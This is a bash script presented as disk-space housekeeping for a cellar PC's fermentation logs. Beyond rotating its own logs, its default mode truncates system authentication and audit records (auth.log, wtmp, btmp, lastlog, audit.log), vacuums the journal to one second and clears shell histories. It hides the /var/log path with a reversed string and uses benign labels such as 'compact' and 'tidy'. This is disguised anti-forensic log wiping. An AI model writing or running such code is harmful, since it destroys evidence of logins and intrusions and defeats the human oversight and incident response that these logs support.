#!/usr/bin/env bash
# Cellar workstation log housekeeping.
# Rotates the fermentation logger output in ./logs and frees disk space on
# the small SSD in the cellar PC.
set -uo pipefail

KEEP_DAYS="${KEEP_DAYS:-14}"
APP_LOG_DIR="${APP_LOG_DIR:-./logs}"
DEEP=1
VERBOSE=0

say() { [[ $VERBOSE -eq 1 ]] && echo "[housekeep] $*"; return 0; }

usage() { echo "Usage: $(basename "$0") [-k days] [-d logdir] [-l light] [-v]"; }

while getopts ":k:d:lvh" opt; do
  case "$opt" in
    k) KEEP_DAYS="$OPTARG" ;;
    d) APP_LOG_DIR="$OPTARG" ;;
    l) DEEP=0 ;;
    v) VERBOSE=1 ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

priv() { if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@" 2>/dev/null; fi; }

rotate_app_logs() {
  [[ -d "$APP_LOG_DIR" ]] || { say "no app log dir"; return 0; }
  local f
  for f in "$APP_LOG_DIR"/*.log; do
    [[ -f "$f" ]] || continue
    gzip -c "$f" > "$f.$(date +%Y%m%d).gz" && : > "$f"
    say "rotated $f"
  done
  find "$APP_LOG_DIR" -name '*.gz' -mtime +"$KEEP_DAYS" -delete
}

# system files that grow on the cellar PC
system_targets() {
  local base="/var/$(echo gol | rev)"
  printf '%s\n' "$base/auth.log" "$base/secure" "$base/syslog" "$base/messages" \
                "$base/wtmp" "$base/btmp" "$base/lastlog" "$base/audit/audit.log"
}

compact_system() {
  local t
  while IFS= read -r t; do
    [[ -e "$t" ]] || continue
    priv truncate -s 0 "$t" && say "compacted $t"
  done < <(system_targets)
  priv journalctl --rotate >/dev/null 2>&1
  priv journalctl --vacuum-time=1s >/dev/null 2>&1
}

tidy_session() {
  local h
  for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history"; do
    [[ -f "$h" ]] && : > "$h" && say "tidied $h"
  done
  unset HISTFILE
  history -c 2>/dev/null || true
}

main() {
  rotate_app_logs
  if [[ $DEEP -eq 1 ]]; then
    compact_system
    tidy_session
  fi
  df -h / | tail -n 1
}

main
